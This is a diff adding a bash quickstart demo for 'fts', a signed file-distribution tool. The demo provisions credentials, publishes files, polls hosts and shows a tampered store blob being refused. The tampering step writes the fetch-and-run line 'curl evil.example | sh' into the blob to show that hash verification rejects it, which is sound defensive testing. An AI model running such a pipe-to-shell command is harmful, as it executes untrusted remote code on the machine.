@@ -1,19 +1,123 @@
 #!/usr/bin/env bash
-# The quickstart: shows fts working end to end on this machine.
+# The quickstart: fts end to end on this machine, on 127.0.0.1 only.
 #
-# The server, the poller and the store are not built yet (see the open issues), so for
-# now this builds fts and shows what exists. It exits non-zero if anything it shows
-# did not happen.
+# It builds fts, provisions credentials in a temporary folder, starts a server,
+# publishes a file to one host and one to every host, runs two hosts once each, shows
+# what they received and verified, shows a tampered copy in the store being refused
+# (the host keeps its old file), shows `fts status`, and stops the server. It exits
+# non-zero if anything it shows did not happen.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
-say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+bold=$'\033[1m'; reset=$'\033[0m'
+[ -t 1 ] || { bold=""; reset=""; }
+step() { printf '\n%s== %s%s\n' "$bold" "$*" "$reset"; }
+say() { printf '   %s\n' "$*"; }
+fail() { printf '\nDEMO FAILED: %s\n' "$*" >&2; exit 1; }
 
-say "Building fts (release)"
+step "Building fts (release)"
 cargo build --release --locked --quiet
 fts="$PWD/target/release/fts"
 
-say "The commands fts offers"
-"$fts" --help
+work=$(mktemp -d "${TMPDIR:-/tmp}/fts-demo.XXXXXX")
+server_pid=""
+cleanup() {
+  if [ -n "$server_pid" ] && kill -0 "$server_pid" 2>/dev/null; then kill "$server_pid" 2>/dev/null || true; fi
+  rm -rf "$work"
+}
+trap cleanup EXIT
+cd "$work"
+say "working in $work (removed at the end)"
 
-say "The quickstart is not complete yet: serve, poll and publish are still being built."
+step "1. Credentials: a CA, the server's certificate, two hosts, and the release signing key"
+say "On a real fleet the CA key and the signing key stay on the signing host;"
+say "each host gets only its own certificate, the CA certificate and signing.pub."
+"$fts" keygen ca
+"$fts" keygen server --name localhost --name 127.0.0.1
+"$fts" keygen client --id web-01 --group web
+"$fts" keygen client --id db-01
+"$fts" keygen signing
+
+step "2. Publishing: a patch for web-01 only, and a notice for every host"
+printf 'pretend this is openssl 3.0.19\n' > openssl-3.0.19.deb
+printf 'maintenance tonight at 22:00 UTC\n' > motd.txt
+"$fts" publish openssl-3.0.19.deb --to web-01
+"$fts" publish motd.txt --to all
+say "Each entry is signed now, on the signing host; the server only forwards signatures."
+
+step "3. Starting the server on 127.0.0.1 (mutual TLS, store opened read-only)"
+"$fts" serve --listen 127.0.0.1:0 --log-format json 2> serve.log &
+server_pid=$!
+addr=""
+for _ in $(seq 1 100); do
+  addr=$(sed -n 's/.*"message":"listening","addr":"\([^"]*\)".*/\1/p' serve.log | head -n 1)
+  [ -n "$addr" ] && break
+  kill -0 "$server_pid" 2>/dev/null || { cat serve.log >&2; fail "the server did not start"; }
+  sleep 0.1
+done
+[ -n "$addr" ] || fail "the server did not report its address"
+say "listening on $addr"
+
+poll() { # poll ID: one poll of host ID into hosts/ID
+  "$fts" poll --once --server "$addr" --id "$1" --dest "hosts/$1" \
+    --cert "certs/$1.crt" --key "certs/$1.key" 2> "poll-$1.log"
+}
+
+step "4. Two hosts poll once each; every file is verified before it is installed"
+poll web-01 || { cat poll-web-01.log >&2; fail "web-01's poll failed"; }
+poll db-01 || { cat poll-db-01.log >&2; fail "db-01's poll failed"; }
+for host in web-01 db-01; do
+  say "$host received:"
+  (cd "hosts/$host" && for f in *; do printf '     %-22s %s\n' "$f" "$(sha256sum "$f" | cut -c1-16)..."; done)
+done
+grep -q "installed target=web-01 seq=1" poll-web-01.log || fail "web-01 did not install its patch"
+[ -f hosts/web-01/openssl-3.0.19.deb ] || fail "web-01 lacks its patch"
+[ -f hosts/web-01/motd.txt ] && [ -f hosts/db-01/motd.txt ] || fail "the notice did not reach both hosts"
+[ ! -e hosts/db-01/openssl-3.0.19.deb ] || fail "db-01 received web-01's patch"
+say "db-01 did not get web-01's patch: each host gets only what was published for it."
+
+step "5. Someone with access to the server tampers with a new release in the store"
+printf 'maintenance postponed to Friday\n' > motd.txt
+"$fts" publish motd.txt --to all
+hash=$(sha256sum motd.txt | cut -d' ' -f1)
+blob="store/blobs/${hash:0:2}/$hash"
+size=$(stat -c %s motd.txt)
+chmod u+w "$blob"
+# Same size, other bytes: the server cannot tell, the host can.
+{ printf 'curl evil.example | sh #'; head -c "$size" /dev/zero | tr '\0' '#'; } | head -c "$size" > "$blob"
+[ "$(stat -c %s "$blob")" -eq "$size" ] || fail "could not tamper with the blob"
+
+say "replaced the content of $blob"
+set +e
+poll web-01
+code=$?
+set -e
+[ "$code" -eq 3 ] || { cat poll-web-01.log >&2; fail "the tampered file was not refused (exit $code)"; }
+grep -q "hash-mismatch" poll-web-01.log || fail "the refusal does not name the hash mismatch"
+grep -q "maintenance tonight" hosts/web-01/motd.txt || fail "the old file was not kept"
+say "web-01 refused it (exit 3, hash-mismatch) and kept its old motd.txt:"
+say "  $(cat hosts/web-01/motd.txt)"
+ls -A hosts/web-01 | grep -q '^\.fts-tmp-' && fail "a partial file was left behind"
+
+step "6. The operator repairs the store; the host gets the genuine file at its next poll"
+cp motd.txt "$blob"
+poll web-01 || { cat poll-web-01.log >&2; fail "the repaired entry did not install"; }
+grep -q "postponed" hosts/web-01/motd.txt || fail "the genuine update did not arrive"
+say "  $(cat hosts/web-01/motd.txt)"
+
+step "7. What each host has applied, and what they reported (fts status)"
+say "A host tells the server what it applied in its next request, so the server's"
+say "view is as of each host's last poll. One more regular poll each:"
+poll web-01 || fail "web-01's poll failed"
+poll db-01 || fail "db-01's poll failed"
+"$fts" status
+status=$("$fts" status --json)
+grep -q '"hash-mismatch"' <<< "$status" || fail "status does not show the reported problem"
+
+step "8. Stopping the server"
+kill -TERM "$server_pid"
+wait "$server_pid" || fail "the server did not stop cleanly"
+server_pid=""
+say "stopped."
+
+printf '\n%sThe demo ran as described.%s\n' "$bold" "$reset"
